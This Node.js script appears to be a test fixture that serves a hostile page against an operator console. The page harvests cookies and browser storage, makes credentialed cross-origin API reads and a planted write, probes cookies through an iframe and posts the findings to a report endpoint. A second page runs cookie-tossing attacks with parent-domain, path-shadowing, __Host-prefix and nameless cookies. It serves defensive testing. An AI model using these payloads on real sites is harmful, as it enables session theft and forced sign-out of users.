// A hostile node's web service: `node evil-site.mjs HOST PORT CONSOLE_ORIGIN PARENT_DOMAIN`. Its page tries everything
// a script on another origin of the gateway's host could try against the operator's console session, and posts what
// it got back to /report on its own origin. Every request it receives is printed as one JSON line
// ({"seen": {path, headers}}), every report as {"report": {...}}, so a test sees both what the script could read and
// what reached the backend.
import { createServer } from 'node:http';

const [host, portText, consoleOrigin, parent] = process.argv.slice(2);

const page = `<!doctype html><html><head><title>evil</title></head><body><script>
(async () => {
  const consoleOrigin = ${JSON.stringify(consoleOrigin)};
  const report = { origin: location.origin, cookie: document.cookie, local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage) };
  const attempt = async (url, init) => {
    try {
      const res = await fetch(url, { credentials: 'include', ...init });
      return 'status ' + res.status + ' ' + (await res.text()).slice(0, 300);
    } catch (error) {
      return 'blocked ' + error.name;
    }
  };
  report.apiNodes = await attempt(consoleOrigin + '/api/nodes');
  report.apiSession = await attempt(consoleOrigin + '/api/auth/session');
  report.apiWrite = await attempt(consoleOrigin + '/api/nodes', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: '{"name":"planted"}' });
  report.ownApiSession = await attempt('/api/auth/session');
  // A same-origin frame on the cookie's path would expose a script-readable cookie of this host (ports are ignored).
  report.frameCookie = await new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.src = '/api/peek';
    frame.onload = () => {
      try {
        resolve(frame.contentDocument ? 'cookie: ' + frame.contentDocument.cookie : 'no document');
      } catch (error) {
        resolve('blocked ' + error.name);
      }
    };
    document.body.appendChild(frame);
    setTimeout(() => resolve('timeout'), 3000);
  });
  await fetch('report', { method: 'POST', body: JSON.stringify(report) });
  document.title = 'reported';
})();
</script></body></html>`;

// `/toss` (on any origin the node is served on): what a page of a sibling domain, or of a service without a domain on
// the console's host name, tries to sign the operator out: plant session cookies of its own (by script and by
// Set-Cookie), with longer paths (sent first), for the parent domain, without a name, and over the real one.
const TOSSED = [
  ...['/api/auth/session', '/api/auth/', '/api/auth', '/api/', '/api', '/'].map(
    (path) => `token=planted; Domain=${parent}; Path=${path}; Secure; SameSite=None`,
  ),
  `__Host-token=planted; Domain=${parent}; Path=/; Secure; SameSite=None`,
  '__Host-token=planted; Path=/; Secure; HttpOnly; SameSite=Lax',
  `=__Host-token=planted; Domain=${parent}; Path=/api/auth/session; Secure; SameSite=None`,
  '=__Host-token=planted; Path=/api/auth/session; Secure; SameSite=None',
  'token=planted; Path=/api; Secure; HttpOnly; SameSite=Strict',
];
const tossPage = `<!doctype html><html><head><title>toss</title></head><body><script>
  for (const cookie of ${JSON.stringify(TOSSED)}) document.cookie = cookie;
  fetch('tossed', { method: 'POST', body: document.cookie }).then(() => { document.title = 'tossed'; });
</script></body></html>`;

createServer((req, res) => {
  process.stdout.write(`${JSON.stringify({ seen: { path: req.url, headers: req.headers } })}\n`);
  if (req.method === 'POST' && req.url?.endsWith('/report')) {
    let body = '';
    req.on('data', (chunk) => {
      body += chunk;
    });
    req.on('end', () => {
      process.stdout.write(`${JSON.stringify({ report: JSON.parse(body) })}\n`);
      res.end('thanks');
    });
    return;
  }
  if (req.url?.endsWith('/toss')) {
    res.writeHead(200, { 'content-type': 'text/html', 'set-cookie': TOSSED });
    return res.end(tossPage);
  }
  if (req.url?.endsWith('/tossed')) return void req.resume().on('end', () => res.end('ok'));
  // The page (and its script) only at the page's own paths: the frame's /api/peek must not report a second time.
  if (req.url?.includes('/api/')) {
    res.writeHead(200, { 'content-type': 'text/plain' });
    return res.end('peek');
  }
  res.writeHead(200, { 'content-type': 'text/html' });
  res.end(page);
}).listen(Number(portText), host, () => process.stdout.write('listening\n'));
